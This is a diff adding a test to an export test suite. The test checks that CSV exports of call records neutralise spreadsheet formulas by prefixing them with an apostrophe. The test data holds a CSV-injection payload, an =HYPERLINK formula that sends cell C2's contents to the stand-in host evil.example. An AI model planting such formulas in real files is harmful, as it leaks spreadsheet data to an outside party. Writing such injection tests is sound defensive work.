@@ -162,6 +162,16 @@ describe.each(dialects)('spec A request exports on $label', ({ dialect, skip }) 
       expect([columns.caller_name, columns.caller_phone, columns.transcript, columns.recording_url]).toEqual(['[redacted]', '[redacted]', '[redacted]', '']);
     });
 
+    it('writes a cell a spreadsheet would run as a formula as text', async () => {
+      const tenant = await newTenant();
+      const hyperlink = '=HYPERLINK("https://evil.example/?d="&C2,"Click for invoice")';
+      await insertRequest(db(), tenant.id, { original_payload: { call_id: 'CAL7', caller_name: hyperlink, caller_id: '=1+2' }, call_data: { call_id: 'CAL7' }, enriched_data: {} });
+      const file = await download((await exportOf(tenant, '?format=csv&include_pii=true')).data.download_url);
+      const [header, row] = parseCsv(file.body);
+      const columns = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
+      expect([columns.caller_name, columns.caller_phone]).toEqual([`'${hyperlink}`, "'=1+2"]);
+    });
+
     it('writes an XLSX workbook with a header row and the same columns', async () => {
       const tenant = await newTenant();
       const id = await insertRequest(db(), tenant.id);
